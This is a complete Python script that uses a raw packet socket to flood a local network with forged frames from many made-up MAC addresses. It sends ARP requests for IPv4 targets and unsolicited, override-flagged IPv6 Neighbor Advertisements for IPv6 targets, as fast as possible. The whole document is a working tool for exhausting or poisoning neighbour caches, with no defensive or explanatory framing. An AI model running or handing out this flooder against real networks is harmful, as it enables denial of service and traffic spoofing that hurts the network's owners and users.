"""ARP requests or, for a target of IPv6, answers of ND from many stations that don't exist, as fast as possible.

    forge.py INTERFACE COUNT TARGET
"""

import ipaddress
import socket
import struct
import sys

ICMP6 = 58
ADVERTISEMENT = 136
OVERRIDE = 1 << 29
TARGET_LINK = 2


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def station(number):
    return b"\x02\x99" + struct.pack("!I", number)


def request(number, target):
    source = struct.pack("!I", (10 << 24) + (1 << 8) + 256 + number)
    arp = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 1) + station(number) + source + bytes(6) + target
    return b"\xff" * 6 + station(number) + b"\x08\x06" + arp + bytes(18)


def advertisement(number, target):
    """Of an address in the target's network."""
    source = target[:8] + struct.pack("!Q", 0x10000 + number)
    everybody = ipaddress.IPv6Address("ff02::1").packed
    option = struct.pack("!BB", TARGET_LINK, 1) + station(number)
    rest = struct.pack("!I", OVERRIDE) + source + option
    length = 4 + len(rest)
    pseudo = source + everybody + struct.pack("!II", length, ICMP6)
    value = checksum(pseudo + struct.pack("!BBH", ADVERTISEMENT, 0, 0) + rest)
    header = struct.pack("!IHBB", 6 << 28, length, ICMP6, 255) + source + everybody
    message = struct.pack("!BBH", ADVERTISEMENT, 0, value) + rest
    return b"\x33\x33\0\0\0\1" + station(number) + b"\x86\xdd" + header + message


def main():
    interface, count, target = sys.argv[1:]
    target = ipaddress.ip_address(target)
    make = request if target.version == 4 else advertisement
    link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    link.bind((interface, 0))
    for number in range(int(count)):
        link.send(make(number, target.packed))


main()
